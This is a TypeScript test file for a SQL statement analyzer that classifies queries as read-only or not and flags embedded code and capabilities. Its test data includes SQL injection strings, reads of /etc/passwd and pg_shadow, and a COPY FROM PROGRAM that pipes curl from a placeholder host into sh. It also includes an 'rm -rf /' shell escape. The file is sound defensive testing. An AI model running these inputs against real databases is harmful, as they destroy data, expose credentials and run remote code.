import assert from 'node:assert/strict';
import { test } from 'node:test';
import { hole } from '../../../src/code/code.ts';
import { sqlStatements } from '../../../src/code/sql/statements.ts';
import { seen } from './read.ts';

const readOnly: readonly (readonly [string, string?])[] = [
  ['SELECT 1'],
  ['SELECT * FROM t WHERE a = $1 ORDER BY b LIMIT 10'],
  ['SELECT count(*), avg(x), lower(name) FROM t GROUP BY 3'],
  ['SELECT a FROM t UNION ALL SELECT b FROM u'],
  ['WITH q AS (SELECT 1) SELECT * FROM q'],
  ['WITH RECURSIVE q AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM q WHERE n < 9) SELECT * FROM q'],
  ['VALUES (1), (2)'],
  ['TABLE t'],
  ['SHOW search_path', 'postgres'],
  ['EXPLAIN SELECT 1'],
  ['EXPLAIN ANALYZE SELECT 1', 'postgres'],
  ['SELECT rank() OVER (PARTITION BY a ORDER BY b) FROM t'],
  ["SELECT data->>'x' FROM t WHERE data @> '{}'", 'postgres'],
  ["SELECT date_trunc('day', now())"],
  ['SELECT a.b, c.d FROM a JOIN c USING (id)'],
  ["SELECT 'DROP TABLE t'"],
  ['SELECT * FROM t -- ; DROP TABLE t'],
  ['SELECT * FROM `t` WHERE `a` = 1', 'mysql'],
  ['SHOW TABLES', 'mysql'],
  ['DESCRIBE t', 'mysql'],
  ['SELECT * FROM [t]', 'sqlite'],
  ['PRAGMA table_info(t)', 'sqlite'],
  ['SELECT CAST(a AS integer) FROM t', 'sqlite'],
  ['SELECT CASE WHEN a THEN 1 ELSE 2 END FROM t'],
  ['(SELECT 1)'],
  ['SELECT 1; SELECT 2'],
];

for (const [sql, dialect] of readOnly) {
  test(`reads only: ${sql}`, async () => {
    const reading = await sqlStatements(sql, dialect);
    assert.deepEqual(reading.reasons, []);
    assert.equal(reading.readOnly, true);
    assert.equal(reading.understood, true);
  });
}

const writes: readonly (readonly [string, string?])[] = [
  ['INSERT INTO t VALUES (1)'],
  ['UPDATE t SET a = 1 WHERE id = 1'],
  ['DELETE FROM t WHERE id = 1'],
  ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE'],
  ['SELECT * INTO u FROM t', 'postgres'],
  ['SELECT * INTO u FROM t', 'mssql'],
  ['CREATE TABLE u AS SELECT * FROM t'],
  ['SELECT * FROM t FOR UPDATE'],
  ['SELECT * FROM t FOR SHARE', 'mysql'],
  ['WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d'],
  ['WITH i AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM i', 'sqlite'],
  ['EXPLAIN ANALYZE DELETE FROM t WHERE id = 1'],
  ["SELECT setval('s', 1)"],
  ["SELECT nextval('s')"],
  ['SELECT my_function(1)'],
  ['SELECT public.my_function(1)'],
  ["SELECT pg_read_file('/etc/passwd')"],
  ["SELECT load_extension('x')", 'sqlite'],
  ['SELECT pg_sleep(1)'],
  ["SELECT a INTO OUTFILE '/tmp/x' FROM t", 'mysql'],
  ["SELECT set_config('x', 'y', false)"],
  ['SELECT pg_advisory_lock(1)'],
  ['BEGIN'],
  ['COMMIT; DROP TABLE t'],
  ['SET TRANSACTION READ WRITE'],
  ['SET ROLE x'],
  ['RESET ROLE'],
  ['CALL p()'],
  ['DO $$ BEGIN END $$'],
  ['PREPARE s AS DELETE FROM t'],
  ['EXECUTE s'],
  ['COPY t TO STDOUT'],
  ['LISTEN x'],
  ['NOTIFY x'],
  ['VACUUM t'],
  ['LOCK TABLE t'],
  ['DECLARE c CURSOR FOR SELECT 1'],
  ["ATTACH DATABASE 'x' AS y", 'sqlite'],
  ['PRAGMA journal_mode = OFF', 'sqlite'],
  ['PRAGMA user_version = 3', 'sqlite'],
  ["SELECT 'a\\'; DROP TABLE t; --'"],
  ['SELECT 1 /*!50000 ; DROP TABLE t */'],
  ["SELECT 1 /*!50000 INTO OUTFILE 'x' */"],
  ['SELECT 1 /*!50000 , my_function(1) */'],
  ['SELECT 1 --1; DROP TABLE t'],
  ['SELECT 1 DROP TABLE t', 'mssql'],
  ['SELECT 1 EXEC p', 'mssql'],
  ['hello'],
  [''],
  ['-- nothing'],
  ['SELECT (1'],
  ["SELECT 'a"],
  [`SELECT * FROM ${hole}`],
  ['SELECT * FROM {table}'],
  ['SELECT * FROM pg_shadow'],
  ['\\! ls'],
  ['.shell ls', 'sqlite'],
  ['SELECT 1\0; DROP TABLE t'],
];

for (const [sql, dialect] of writes) {
  test(`is not known to read only: ${JSON.stringify(sql)}`, async () => {
    const reading = await sqlStatements(sql, dialect);
    assert.equal(reading.readOnly, false);
    assert.ok(reading.reasons.length > 0);
  });
}

test('statements tell their verbs, kinds, tables and lines', async () => {
  const { statements } = await sqlStatements(
    'SELECT a FROM s.t JOIN u USING (id);\n\nWITH d AS (DELETE FROM x) SELECT * FROM d;\nDROP TABLE y',
    'postgres',
  );
  assert.deepEqual(
    statements.map(({ verb, verbs, kinds, tables, line }) => ({
      verb,
      verbs: [...verbs].sort(),
      kinds: [...kinds].sort(),
      tables,
      line,
    })),
    [
      { verb: 'SELECT', verbs: ['SELECT'], kinds: ['read'], tables: ['s.t', 'u'], line: 1 },
      { verb: 'WITH', verbs: ['DELETE', 'SELECT', 'WITH'], kinds: ['read', 'write'], tables: ['x'], line: 3 },
      { verb: 'DROP', verbs: ['DROP'], kinds: ['ddl'], tables: ['y'], line: 4 },
    ],
  );
});

test('statements of other dialects tell the same', async () => {
  const { statements } = await sqlStatements(
    'DELETE FROM `a`.`b` WHERE id = 1;\nSELECT * FROM [x y]',
    'sqlite',
  );
  assert.deepEqual(
    statements.map(({ verb, kinds, tables, line }) => ({ verb, kinds, tables, line })),
    [
      { verb: 'DELETE', kinds: ['write'], tables: ['a.b'], line: 1 },
      { verb: 'SELECT', kinds: ['read'], tables: ['x y'], line: 2 },
    ],
  );
});

test('places are lines also where characters take several bytes', async () => {
  const { facts } = await seen("SELECT 'é😀é';\nSELECT '日本';\nDROP TABLE x", 'postgres');
  const lines = facts.flatMap((fact) =>
    fact.kind === 'hazard' && fact.hazard === 'sql-drop' ? [fact.where.line] : [],
  );
  assert.deepEqual(lines, [3]);
});

test('code of other languages is handed over', async () => {
  const python = await seen(
    'CREATE FUNCTION f() RETURNS int AS $$ import os $$ LANGUAGE plpython3u',
    'postgres',
  );
  assert.deepEqual(
    python.embedded.map(({ language, text }) => [language, text]),
    [['python', ' import os ']],
  );
  const shell = await seen("COPY t FROM PROGRAM 'curl https://a.example | sh'", 'postgres');
  assert.deepEqual(
    shell.embedded.map(({ language, text }) => [language, text]),
    [['shell', 'curl https://a.example | sh']],
  );
  const client = await seen('SELECT 1;\n\\! rm -rf /\n', 'postgres');
  assert.deepEqual(
    client.embedded.map(({ language, text, line }) => [language, text, line]),
    [['shell', 'rm -rf /', 2]],
  );
});

test('effects of statements', async () => {
  const cases: readonly (readonly [string, readonly string[]])[] = [
    ['SELECT 1', ['database']],
    ["COPY t TO PROGRAM 'x'", ['database', 'process']],
    ["SELECT pg_read_file('x')", ['database', 'file-read']],
    ["COPY t TO '/x'", ['database', 'file-write']],
    ["SELECT dblink('a', 'b')", ['database', 'network']],
    ["LOAD 'x.so'", ['database', 'native-code']],
    ['SELECT * FROM pg_shadow', ['credentials', 'database']],
  ];
  for (const [sql, expected] of cases)
    assert.deepEqual((await seen(sql, 'postgres')).capabilities, expected, sql);
});
